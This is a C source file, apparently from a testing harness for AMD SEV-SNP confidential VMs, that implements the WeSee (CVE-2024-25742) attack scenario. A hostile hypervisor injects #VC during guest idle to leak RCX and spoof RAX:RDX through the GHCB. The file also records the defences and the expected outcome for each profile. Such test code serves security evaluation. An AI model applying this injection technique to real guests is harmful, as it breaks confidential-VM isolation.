/*
 * host/attacks/scn_wesee_vc_injection.c - wesee-vc-injection (attacks.md G2, WeSee,
 * CVE-2024-25742): the hypervisor's event injection (H4) against a guest that idles (HLT),
 * with the agent's diagnostics op REGHOLD (docs/guest.md; the idle stepping: atk_agent.c).
 * The host injects #VC (vector 29) with exit code 0x7C (MSR) while the guest idles. The
 * guest's #VC handler believes its RDMSR trapped: it copies RCX into the shared GHCB (a
 * register leak) and loads the host's answer into RAX:RDX (a register write). Defence:
 * RestrictedInjection in SEV_FEATURES (VMRUN refuses any vector but #HV); a guest check that
 * the instruction at RIP matches the exit code (the Linux fix) would also stop it, the
 * modelled #VC handler has none. A plain VM has no #VC: there the hypervisor writes RAX:RDX in
 * the host-readable save area at the same exit.
 */
#include "host/attacks/atk_int.h"

#include "base/rd.h"
#include "snpkit/ghcb.h"
#include "snpkit/util.h"
#include "snpkit/vmsa.h"

#include <string.h>

#define SPOOF_RAX UINT32_C(0x41414141)
#define SPOOF_RDX UINT32_C(0x42424242)

/* Plain VM: the save area is host memory; read RCX, write RAX:RDX. */
static snp_err
plain_regs(struct snp_atk_ctx *c, struct atk_vm *vm, uint64_t *rcx)
{
    uint8_t page[SNP_VMSA_SIZE];
    struct snp_vmsa s;
    uint64_t pf = 0;
    snp_err err;

    SNP_ENSURE(snp_host_read(c->m, vm->v->vmsa_spa[0], page, sizeof(page)) == SNP_HW_OK,
               SNP_E_STATE);
    SNP_TRY(snp_vmsa_decode(&s, page, sizeof(page), NULL));
    *rcx = s.rcx;
    s.rax = SPOOF_RAX;
    s.rdx = SPOOF_RDX;
    err = snp_vmsa_encode(page, &s);
    if (err == SNP_OK &&
        snp_host_write(c->m, vm->v->vmsa_spa[0], page, sizeof(page), &pf) != SNP_HW_OK) {
        err = SNP_E_STATE;
    }
    snp_wipe(&s, sizeof(s));
    return err;
}

/* SNP: the guest's #VC handler asked for the MSR; answer with the host's RAX:RDX. */
static snp_err
ghcb_spoof(struct snp_atk_ctx *c, struct atk_vm *vm, uint64_t *rcx)
{
    uint8_t page[SNP_GHCB_SIZE];
    struct snp_ghcb g;
    uint64_t spa = 0, pf = 0;

    SNP_ENSURE(vm->v->ghcb_gpas[0] != 0 && atk_gpa_spa(vm, vm->v->ghcb_gpas[0], &spa), SNP_E_STATE);
    SNP_ENSURE(snp_host_read(c->m, spa, page, sizeof(page)) == SNP_HW_OK, SNP_E_STATE);
    SNP_TRY(snp_ghcb_decode(&g, page, sizeof(page), NULL));
    *rcx = g.rcx; /* the handler copied the guest's RCX into the shared page */
    g.rax = SPOOF_RAX;
    g.rdx = SPOOF_RDX;
    SNP_TRY(snp_ghcb_encode(page, &g));
    SNP_ENSURE(snp_host_write(c->m, spa, page, sizeof(page), &pf) == SNP_HW_OK, SNP_E_STATE);
    return SNP_OK;
}

static snp_err
atk_wesee(struct snp_atk_ctx *c, struct snp_atk_observed *obs)
{
    struct atk_vm vm;
    uint64_t features = 0;
    uint64_t ev = SNP_VMSA_EVENTINJ_VALID | SNP_VMSA_EVENTINJ_EV |
                  (UINT64_C(3) << SNP_VMSA_EVENTINJ_TYPE_SHIFT) | SNP_VECTOR_VC |
                  (SNP_NAE_MSR << SNP_VMSA_EVENTINJ_ERRCODE_SHIFT);
    uint64_t rcx_seen = 0, rax, rdx, rcx;
    uint32_t vcs;
    const uint8_t *a;
    bool hlt = false, asked = false;
    char b[96];
    snp_err err;

    err = atk_start_injectable(c, &vm, SNP_CHAN_OP_REGHOLD, &features);
    if (err != SNP_OK) {
        goto out;
    }
    vm.next_len = atk_msg_shutdown(vm.next);
    vm.last_len = 0;
    err = atk_to_idle(c, &vm, &hlt);
    if (err != SNP_OK) {
        goto out;
    }
    if (!hlt) {
        atk_evidence(obs, SNP_ATK_NOT_RUN, "the guest never idled; guest %s",
                     atk_stop_text(&vm, b, sizeof(b)));
        goto out;
    }
    if (c->profile == SNP_ATK_PLAIN) {
        /* no #VC in a plain VM: the trusted hypervisor just edits the registers */
        err = plain_regs(c, &vm, &rcx_seen);
        if (err != SNP_OK) {
            goto out;
        }
        asked = true;
        atk_trace(c, SNP_ATK_ACT_HV, "save area at the HLT: RCX 0x%llx; wrote RAX 0x%x RDX 0x%x",
                  (unsigned long long)rcx_seen, SPOOF_RAX, SPOOF_RDX);
    } else {
        atk_trace(c, SNP_ATK_ACT_HV,
                  "SEV_FEATURES 0x%llx; at the guest's HLT: EVENTINJ 0x%llx (#VC, error code "
                  "0x%llx = MSR)",
                  (unsigned long long)features, (unsigned long long)ev,
                  (unsigned long long)SNP_NAE_MSR);
        err = snp_host_inject(c->m, vm.v->vcpu_ids[0], ev);
        if (err == SNP_OK) {
            err = atk_step_exit(c, &vm, &hlt);
        }
        if (err != SNP_OK) {
            goto out;
        }
        if (atk_vmrun_refused(&vm)) {
            atk_evidence(obs, SNP_ATK_BLOCKED_HW,
                         "VMRUN with EVENTINJ #VC (vector %u) refused (VMEXIT_INVALID): "
                         "RestrictedInjection lets only #HV in; the #VC handler never ran",
                         SNP_VECTOR_VC);
            goto out;
        }
        if (vm.st.stop == SNP_VMM_RUNNING && vm.st.last_exit == SNP_NAE_MSR) {
            err = ghcb_spoof(c, &vm, &rcx_seen);
            if (err != SNP_OK) {
                goto out;
            }
            asked = true;
            atk_trace(c, SNP_ATK_ACT_HV,
                      "the guest's #VC handler asked for RDMSR (GHCB RCX 0x%llx); answered RAX "
                      "0x%x RDX 0x%x",
                      (unsigned long long)rcx_seen, SPOOF_RAX, SPOOF_RDX);
        }
    }
    err = atk_vm_exchange(&vm, vm.next, vm.next_len);
    if (err != SNP_OK) {
        goto out;
    }
    if ((a = atk_answer(&vm, SNP_CHAN_OP_REGHOLD, 28)) == NULL) {
        if (atk_guest_terminated(&vm)) {
            atk_evidence(obs, SNP_ATK_DETECTED_GUEST, "injected #VC: guest %s",
                         atk_stop_text(&vm, b, sizeof(b)));
        } else {
            atk_evidence(obs, SNP_ATK_NOT_RUN, "no REGHOLD answer; guest %s",
                         atk_stop_text(&vm, b, sizeof(b)));
        }
        goto out;
    }
    rax = snp_le64(a);
    rdx = snp_le64(a + 8);
    rcx = snp_le64(a + 16);
    vcs = snp_le32(a + 24);
    atk_trace(c, SNP_ATK_ACT_GUEST, "after its HLT: RAX 0x%llx RDX 0x%llx (%u #VC handled)",
              (unsigned long long)rax, (unsigned long long)rdx, vcs);
    if (asked && rax == SPOOF_RAX && rdx == SPOOF_RDX) {
        atk_evidence(obs, SNP_ATK_SUCCEEDED,
                     "%s: the guest's RAX:RDX became the host's 0x%x:0x%x across an HLT, and "
                     "the host saw its RCX 0x%llx (%s)",
                     c->profile == SNP_ATK_PLAIN
                         ? "plain VM, save area edited"
                         : "injected #VC 0x7C reached the guest's #VC handler",
                     SPOOF_RAX, SPOOF_RDX, (unsigned long long)rcx_seen,
                     rcx_seen == rcx ? "the guest's own value" : "not the guest's value");
    } else {
        atk_evidence(obs, SNP_ATK_BLOCKED_HW,
                     "the guest's registers kept their values (RAX 0x%llx, %u #VC handled)",
                     (unsigned long long)rax, vcs);
    }
out:
    atk_vm_free(&vm);
    return err;
}

const struct snp_atk_scenario atk_scn_wesee_vc_injection = {
    .id = "wesee-vc-injection",
    .title = "inject #VC (MSR) while the guest idles",
    .ref = "WeSee (CVE-2024-25742)",
    .cap = "H4",
    .condition = "the host may inject vector 29; the #VC handler trusts the error code",
    .defence = "RestrictedInjection in SEV_FEATURES: VMRUN refuses all but #HV (guest-side: check "
               "the instruction at RIP)",
    .profiles = ATK_P_ALL,
    .expect = {SNP_ATK_SUCCEEDED, SNP_ATK_SUCCEEDED, SNP_ATK_BLOCKED_HW},
    .run = atk_wesee,
};
